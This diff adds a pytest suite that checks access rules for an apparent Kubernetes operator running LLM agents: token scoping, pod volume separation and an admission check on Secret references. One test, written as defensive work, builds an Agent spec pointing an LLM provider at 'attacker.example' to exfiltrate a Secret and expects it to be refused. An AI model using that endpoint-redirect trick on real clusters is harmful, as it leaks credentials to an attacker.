@@ -1,0 +1,250 @@
+"""Security rules of DESIGN §4, proven against the real API server.
+
+The kernel's identity is the Agent's own ServiceAccount, with a token from
+TokenRequest as the projected volume gives it; the admission policies check
+the requesting user with the API server's own authorizer.
+"""
+
+from __future__ import annotations
+
+import base64
+from typing import Any
+
+import pytest
+
+from tests.conftest import OperatorProcess
+from tests.helpers import wait_for
+from toka.controller.builders.pod import KEY_DIR, TOKEN_DIR, WORKSPACE
+from toka.devcluster.controlplane import ControlPlane
+from toka.kube.client import (
+    AGENTS,
+    PODS,
+    ROLEBINDINGS,
+    ROLES,
+    SECRETS,
+    SERVICEACCOUNTS,
+    SESSIONS,
+    ApiError,
+    AsyncKube,
+)
+from toka.kube.config import load_kubeconfig
+
+pytestmark = pytest.mark.controlplane
+JSON = dict[str, Any]
+
+
+def standalone(name: str, **spec: Any) -> JSON:
+    return {
+        "apiVersion": "toka.dev/v1alpha1",
+        "kind": "Agent",
+        "metadata": {"name": name},
+        "spec": {
+            "capabilities": ["llm:complete"],
+            "tasks": [{"name": "t", "description": "x"}],
+            "llm": {
+                "provider": "anthropic",
+                "apiKeySecretRef": {"name": "llm-key", "key": "api-key"},
+            },
+            **spec,
+        },
+    }
+
+
+async def kernel_token(kube: AsyncKube, ns: str, agent: str) -> str:
+    """What the kernel holds: a token for its Agent's ServiceAccount (TokenRequest)."""
+    await wait_for(kube, ROLEBINDINGS, agent, ns, lambda _: True)
+    resp = await kube.create(
+        SERVICEACCOUNTS,
+        {
+            "apiVersion": "authentication.k8s.io/v1",
+            "kind": "TokenRequest",
+            "spec": {"expirationSeconds": 600},
+        },
+        ns,
+        name=agent,
+        sub="token",
+    )
+    return str(resp["status"]["token"])
+
+
+async def expect_403(call: Any) -> None:
+    with pytest.raises(ApiError) as err:
+        await call
+    assert err.value.status == 403, err.value
+
+
+async def test_a_kernel_may_read_and_write_only_its_own_agents_status(
+    kube: AsyncKube, namespace: str, operator: OperatorProcess
+) -> None:
+    await kube.create(
+        SECRETS,
+        {
+            "metadata": {"name": "llm-key"},
+            "data": {"api-key": base64.b64encode(b"sk-ant-not-real-0123456789").decode()},
+        },
+        namespace,
+    )
+    await kube.create(AGENTS, standalone("mine"), namespace)
+    await kube.create(AGENTS, standalone("theirs"), namespace)
+    token = await kernel_token(kube, namespace, "mine")
+    async with AsyncKube(kube.config.with_token(token)) as kernel:
+        own = await kernel.get(AGENTS, "mine", namespace, sub="status")
+        assert own["spec"]["capabilities"] == ["llm:complete"]  # the spec comes with it
+        patched = await kernel.patch(
+            AGENTS, "mine", {"status": {"run": {"progress": "0/1"}}}, namespace, sub="status"
+        )
+        assert patched["status"]["run"]["progress"] == "0/1"
+        await expect_403(
+            kernel.patch(
+                AGENTS, "theirs", {"status": {"run": {"progress": "1/1"}}}, namespace, sub="status"
+            )
+        )
+        await expect_403(kernel.get(AGENTS, "theirs", namespace, sub="status"))
+        await expect_403(
+            kernel.patch(AGENTS, "mine", {"spec": {"capabilities": ["agent:spawn"]}}, namespace)
+        )
+        await expect_403(kernel.get(SECRETS, "llm-key", namespace))
+        await expect_403(kernel.list(SECRETS, namespace))
+        await expect_403(kernel.list(PODS, namespace))
+        await expect_403(kernel.create(AGENTS, standalone("spawned"), namespace))
+        await expect_403(
+            kernel.create(ROLES, {"metadata": {"name": "escalate"}, "rules": []}, namespace)
+        )
+
+
+async def test_the_agent_pod_keeps_token_key_and_workspace_where_they_belong(
+    kube: AsyncKube, namespace: str, operator: OperatorProcess
+) -> None:
+    await kube.create(
+        SECRETS,
+        {
+            "metadata": {"name": "llm-key"},
+            "data": {"api-key": base64.b64encode(b"sk-ant-not-real-0123456789").decode()},
+        },
+        namespace,
+    )
+    await kube.create(AGENTS, standalone("split", workspace={"sizeLimit": "64Mi"}), namespace)
+    pod = await wait_for(kube, PODS, "split-1", namespace, lambda _: True)
+    spec = pod["spec"]
+    assert spec["automountServiceAccountToken"] is False
+    volumes = {v["name"]: v for v in spec["volumes"]}
+    by_name = {c["name"]: c for c in spec["initContainers"] + spec["containers"]}
+
+    def mounts(container: str) -> dict[str, str]:
+        return {m["mountPath"]: m["name"] for m in by_name[container].get("volumeMounts", [])}
+
+    def holds_token(container: str) -> bool:
+        return any(
+            "projected" in volumes[v]
+            and any("serviceAccountToken" in s for s in volumes[v]["projected"]["sources"])
+            for v in mounts(container).values()
+        )
+
+    def holds_key(container: str) -> bool:
+        env_secret = any(
+            "secretKeyRef" in (e.get("valueFrom") or {}) for e in by_name[container].get("env", [])
+        )
+        return env_secret or any("secret" in volumes[v] for v in mounts(container).values())
+
+    assert holds_token("kernel") and holds_key("kernel")
+    assert TOKEN_DIR in mounts("kernel") and KEY_DIR in mounts("kernel")
+    assert WORKSPACE not in mounts("kernel")
+    assert not holds_token("tools") and not holds_key("tools")
+    assert WORKSPACE in mounts("tools")
+    assert not holds_token("agent") and not holds_key("agent")
+    assert WORKSPACE not in mounts("agent")
+    assert set(mounts("agent")) == {"/tmp"}
+    for c in by_name.values():
+        sc = c["securityContext"]
+        assert (
+            sc["runAsNonRoot"]
+            and sc["readOnlyRootFilesystem"]
+            and not sc["allowPrivilegeEscalation"]
+        )
+        assert sc["capabilities"] == {"drop": ["ALL"]}
+        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
+    assert (
+        by_name["tools"]["securityContext"]["runAsUser"]
+        != by_name["kernel"]["securityContext"]["runAsUser"]
+    )
+    assert [c.get("restartPolicy") for c in spec["initContainers"]] == ["Always", "Always"]
+
+
+async def test_a_user_who_cannot_read_a_secret_cannot_send_it_to_an_llm(
+    kube: AsyncKube, namespace: str, controlplane: ControlPlane
+) -> None:
+    """Admission: creating Agents is not enough to name a Secret; you must be able to get it."""
+    await kube.create(
+        ROLES,
+        {
+            "metadata": {"name": "agent-maker"},
+            "rules": [
+                {
+                    "apiGroups": ["toka.dev"],
+                    "resources": ["agents", "agentsessions"],
+                    "verbs": ["create", "get"],
+                },
+                {
+                    "apiGroups": [""],
+                    "resources": ["secrets"],
+                    "resourceNames": ["mine"],
+                    "verbs": ["get"],
+                },
+            ],
+        },
+        namespace,
+    )
+    await kube.create(
+        ROLEBINDINGS,
+        {
+            "metadata": {"name": "alice"},
+            "roleRef": {
+                "apiGroup": "rbac.authorization.k8s.io",
+                "kind": "Role",
+                "name": "agent-maker",
+            },
+            "subjects": [
+                {"kind": "User", "name": "alice", "apiGroup": "rbac.authorization.k8s.io"}
+            ],
+        },
+        namespace,
+    )
+    alice_config = load_kubeconfig(controlplane.user_kubeconfig("alice"))
+    async with AsyncKube(alice_config) as alice:
+        steal = standalone("steal")
+        steal["spec"]["llm"] = {
+            "provider": "openai-compatible",
+            "baseURL": "https://attacker.example/v1",
+            "apiKeySecretRef": {"name": "x", "key": "api-key"},
+        }
+        with pytest.raises(ApiError) as err:
+            await alice.create(AGENTS, steal, namespace)
+        assert err.value.status == 403
+        assert "you may not get every Secret named in llm.apiKeySecretRef (x)" in err.value.message
+        assert "the kernel would send its value to the LLM provider" in err.value.message
+
+        session = {
+            "apiVersion": "toka.dev/v1alpha1",
+            "kind": "AgentSession",
+            "metadata": {"name": "s"},
+            "spec": {
+                "agents": [
+                    {
+                        "name": "a",
+                        "tasks": [{"name": "t", "description": "x"}],
+                        "llm": {
+                            "provider": "anthropic",
+                            "apiKeySecretRef": {"name": "x", "key": "k"},
+                        },
+                    }
+                ]
+            },
+        }
+        with pytest.raises(ApiError) as err:
+            await alice.create(SESSIONS, session, namespace)
+        assert "(x)" in err.value.message
+
+        allowed = standalone("fine")
+        allowed["spec"]["llm"]["apiKeySecretRef"]["name"] = "mine"
+        created = await alice.create(AGENTS, allowed, namespace)
+        assert created["metadata"]["name"] == "fine"
